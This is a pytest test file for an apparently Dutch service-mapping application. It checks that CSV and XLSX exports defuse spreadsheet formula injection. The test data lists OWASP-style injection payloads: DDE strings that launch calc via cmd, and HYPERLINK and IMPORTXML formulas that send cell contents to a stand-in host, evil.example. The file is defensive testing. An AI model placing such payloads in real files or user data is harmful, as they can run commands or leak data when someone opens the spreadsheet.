"""No formula survives an export: every CSV and XLSX a planner can open, fed a corpus of spreadsheet formulas.

The formulas come in the ways a user can bring them: an imported aanbod file
(names, descriptions, organisations, places, costs, phone numbers), rows of
it that are rejected (so they land in the import report), and buurt names in
a CBS kerncijfers file. Then every export path is read back with the csv
module and openpyxl, independently of wijkkaart's writer: no XLSX cell is a
formula, no CSV cell starts with ``= + - @``, tab or CR, the formulas are
there as text, numbers are still numbers, and the internal backup imports
again to exactly the same records.
"""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pandas as pd
import pytest

from wijkkaart import create_app
from wijkkaart.diensten import gebieden as gebied_diensten
from wijkkaart.opslag.engine import make_engine
from wijkkaart.opslag.schema import bereid_voor

from .helpers import aanbod_dump, haarlem_punten, load_haarlem, wijkkaart_cli

#: OWASP's CSV injection examples and their kin; each starts with a character a spreadsheet acts on.
FORMULES = [
    '=HYPERLINK("http://evil.example/?x="&A2,"klik")',
    "=cmd|' /C calc'!A0",
    "+1+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    "=1+1",
    "+31 20 123 4567",
]
GEVAARLIJK = ("=", "+", "-", "@", "\t", "\r")
KOP = [
    "id",
    "naam",
    "soort",
    "beschrijving",
    "organisatie",
    "plaats",
    "kosten",
    "toegang",
    "telefoon",
    "contact_openbaar",
    "lat",
    "lon",
]


def _aanbodbestand(engine, pad) -> None:
    """One row per formula, each formula in every free-text field; one row warned and one rejected because of one."""
    punten = haarlem_punten(engine, len(FORMULES), seed=7)
    with pad.open("w", encoding="utf-8", newline="") as uit:
        schrijver = csv.writer(uit, delimiter=";")
        schrijver.writerow(KOP)
        for i, (formule, (lon, lat)) in enumerate(zip(FORMULES, punten, strict=True)):
            telefoon = formule if len(formule) <= 40 else "=2+2"  # a phone number has at most 40 characters
            schrijver.writerow(
                [f"f{i}", formule, "activiteit", formule, formule, formule, formule, formule, telefoon, "ja", lat, lon]
            )
        # A soort nobody knows: imported as overig aanbod, the formula reported as the value (a warning line).
        schrijver.writerow(["x1", FORMULES[0], FORMULES[1], "", "", "", "", "", "", "", lat, lon])
        schrijver.writerow(["x2", FORMULES[2], "activiteit", "", "", "", "", "", "", "", "=1+1", lon])  # no number


def _kerncijfers_met_formules(shared_data, pad) -> None:
    """The Haarlem kerncijfers file with the first buurten named after formulas."""
    tabel = pd.read_csv(shared_data / "GM0392_haarlem_kwb2024_woonikveilig.csv", dtype=str)
    buurten = tabel.index[tabel["niveau"] == "buurt"][: len(FORMULES)]
    tabel.loc[buurten, "naam"] = FORMULES[: len(buurten)]
    tabel.to_csv(pad, index=False)


@pytest.fixture
def gevuld(database_url, shared_data, tmp_path):
    """Haarlem with formula buurt names and the formula aanbod, and the import's report."""
    engine = make_engine(database_url)
    bereid_voor(engine)
    load_haarlem(engine, shared_data)
    kerncijfers = tmp_path / "kerncijfers.csv"
    _kerncijfers_met_formules(shared_data, kerncijfers)
    gebied_diensten.import_cbs(engine, shared_data / "GM0392_haarlem_buurten_2019.gpkg", kerncijfers=kerncijfers)
    bestand = tmp_path / "aanbod.csv"
    _aanbodbestand(engine, bestand)
    env = {"WIJKKAART_DATABASE_URL": database_url}
    rapport = tmp_path / "rapport.csv"
    uit = wijkkaart_cli("import-aanbod", bestand, "--geocoder", "bestand", "--rapport", rapport, env=env)
    assert "Traceback" not in uit.stderr, uit.stderr
    assert f"geïmporteerd: {len(FORMULES) + 1}" in uit.stdout and "afgewezen: 1" in uit.stdout, uit.stdout
    yield engine, env, rapport
    engine.dispose()


def _csv_cellen(tekst: str) -> list[str]:
    scheiding = ";" if tekst.splitlines()[0].count(";") > tekst.splitlines()[0].count(",") else ","
    return [cel for rij in csv.reader(io.StringIO(tekst, newline=""), delimiter=scheiding) for cel in rij]


def _controleer_csv(naam: str, tekst: str) -> int:
    """No dangerous first character in any cell; returns how many cells hold a formula as text."""
    cellen = _csv_cellen(tekst.removeprefix("\ufeff"))
    gevaarlijk = [c for c in cellen if c.startswith(GEVAARLIJK)]
    assert not gevaarlijk, f"{naam}: {gevaarlijk[:5]}"
    return sum("cmd|" in c or "HYPERLINK" in c for c in cellen)


def _controleer_xlsx(naam: str, inhoud: bytes) -> int:
    """No formula cell, every dangerous text quote-prefixed; returns how many cells hold a formula as text."""
    boek = openpyxl.load_workbook(io.BytesIO(inhoud))
    formules, tekst, zonder_prefix = [], 0, []
    for blad in boek.worksheets:
        for rij in blad.iter_rows():
            for cel in rij:
                if cel.data_type == "f":
                    formules.append(f"{blad.title}!{cel.coordinate}={cel.value}")
                elif isinstance(cel.value, str) and cel.value.startswith(GEVAARLIJK):
                    tekst += "cmd|" in cel.value or "HYPERLINK" in cel.value
                    if not cel.quotePrefix:
                        zonder_prefix.append(cel.coordinate)
    assert not formules, f"{naam}: {formules[:5]}"
    assert not zonder_prefix, f"{naam}: tekst zonder quotePrefix in {zonder_prefix[:5]}"
    return tekst


def test_no_formula_survives_any_export(gevuld, tmp_path):
    _engine, env, rapport = gevuld
    gevonden: dict[str, int] = {}
    # The import report: the rejected rows' values.
    gevonden["rapport"] = _controleer_csv("rapport", rapport.read_text("utf-8-sig"))
    # export-aanbod in every spreadsheet format, public and internal.
    for naam, extra in (("aanbod.csv", ()), ("intern.csv", ("--intern",)), ("aanbod.xlsx", ())):
        uit = wijkkaart_cli("export-aanbod", tmp_path / naam, *extra, env=env)
        assert uit.returncode == 0, uit.stderr
        inhoud = (tmp_path / naam).read_bytes()
        gevonden[naam] = (_controleer_xlsx if naam.endswith("xlsx") else _controleer_csv)(
            naam, inhoud if naam.endswith("xlsx") else inhoud.decode("utf-8")
        )
    assert wijkkaart_cli("export-aanbod", tmp_path / "hsds.zip", env=env).returncode == 0
    with zipfile.ZipFile(tmp_path / "hsds.zip") as pakket:
        for naam in pakket.namelist():
            if naam.endswith(".csv"):
                gevonden[f"hsds/{naam}"] = _controleer_csv(naam, pakket.read(naam).decode("utf-8"))
    # The gap table, from the command line and from the web.
    for naam in ("gaten.csv", "gaten.xlsx"):
        uit = wijkkaart_cli("gaps", "--gemeente", "GM0392", "-o", tmp_path / naam, env=env)
        assert uit.returncode == 0, uit.stderr
    gevonden["gaps.csv"] = _controleer_csv("gaps.csv", (tmp_path / "gaten.csv").read_text("utf-8"))
    gevonden["gaps.xlsx"] = _controleer_xlsx("gaps.xlsx", (tmp_path / "gaten.xlsx").read_bytes())
    client = create_app({"DATABASE_URL": env["WIJKKAART_DATABASE_URL"], "TESTING": True}).test_client()
    gevonden["web.csv"] = _controleer_csv("web.csv", client.get("/gemeente/GM0392/gaten.csv").get_data(as_text=True))
    gevonden["web.xlsx"] = _controleer_xlsx("web.xlsx", client.get("/gemeente/GM0392/gaten.xlsx").data)
    # Each path really carried formulas (as text), or the test would prove nothing.
    leeg = [naam for naam, aantal in gevonden.items() if aantal == 0 and not naam.startswith("hsds/")]
    assert not leeg, f"geen formules als tekst in {leeg}"
    assert sum(aantal for naam, aantal in gevonden.items() if naam.startswith("hsds/")) > 0


def test_numbers_stay_numbers_and_the_backup_restores_every_formula_as_text(
    gevuld, nieuwe_database, shared_data, tmp_path
):
    engine, env, _rapport = gevuld
    assert wijkkaart_cli("export-aanbod", tmp_path / "aanbod.xlsx", env=env).returncode == 0
    blad = openpyxl.load_workbook(tmp_path / "aanbod.xlsx").active
    kop = [c.value for c in blad[1]]
    for kolom in ("lat", "lon", "x", "y"):
        cellen = [rij[kop.index(kolom)] for rij in blad.iter_rows(min_row=2)]
        assert cellen and all(c.data_type == "n" and isinstance(c.value, (int, float)) for c in cellen), kolom
    namen = {c.value for c in (rij[kop.index("naam")] for rij in blad.iter_rows(min_row=2))}
    assert set(FORMULES) <= namen  # the value itself, not with an apostrophe in front

    assert wijkkaart_cli("export-aanbod", tmp_path / "intern.csv", "--intern", env=env).returncode == 0
    tweede_url = nieuwe_database()
    tweede = make_engine(tweede_url)
    bereid_voor(tweede)
    load_haarlem(tweede, shared_data)
    uit = wijkkaart_cli(
        "import-aanbod",
        tmp_path / "intern.csv",
        "--rapport",
        tmp_path / "r2.csv",
        env={"WIJKKAART_DATABASE_URL": tweede_url},
    )
    assert uit.returncode == 0, uit.stdout + uit.stderr
    assert aanbod_dump(tweede) == aanbod_dump(engine)
    assert {a[2] for a in aanbod_dump(tweede)["aanbod"]} >= set(FORMULES)
    tweede.dispose()
